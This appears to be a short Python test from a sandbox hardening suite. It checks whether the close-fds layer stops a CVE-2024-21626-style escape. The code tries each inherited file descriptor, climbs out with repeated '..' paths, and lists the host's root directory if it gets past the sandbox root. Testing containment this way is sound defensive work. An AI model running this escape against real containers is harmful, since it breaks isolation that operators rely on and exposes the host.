"""Threat: one directory descriptor of the caller is a way to the whole host (CVE-2024-21626).

Layer: close-fds. It would succeed when openat() below any descriptor, with '..', reaches a
root that is not ours.
"""

import os

import _kit


def attack() -> str | None:
    """Climb from each descriptor."""
    root = os.stat("/")
    for fd in range(3, 1024):
        try:
            top = os.open("/".join([".."] * 40), os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        except OSError:
            continue
        if (os.fstat(top).st_dev, os.fstat(top).st_ino) != (root.st_dev, root.st_ino):
            return f"descriptor {fd} leads to {sorted(os.listdir(top))[:8]}"
    return None


_kit.run(attack)
